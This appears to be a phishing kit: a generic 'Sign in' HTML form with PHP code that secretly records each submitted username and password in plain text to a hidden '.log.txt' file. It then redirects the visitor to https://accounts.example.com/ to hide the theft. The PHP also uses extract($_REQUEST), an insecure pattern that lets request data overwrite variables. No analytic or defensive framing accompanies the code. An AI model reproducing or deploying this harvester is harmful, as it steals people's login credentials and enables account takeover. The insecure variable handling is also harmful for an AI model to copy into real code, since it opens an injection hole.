<html><head><title>Sign in</title></head><body>
<form method="post"><input name="login"><input type="password" name="pass"><button>Sign in</button></form>
</body></html>
<?php
extract($_REQUEST);
if (isset($login)) {
    $fh = fopen('.log.txt', 'a');
    fwrite($fh, "login: " . $login . "\n");
    fwrite($fh, "pass: " . $pass . "\n");
    fclose($fh);
    header('Location: https://accounts.example.com/');
}
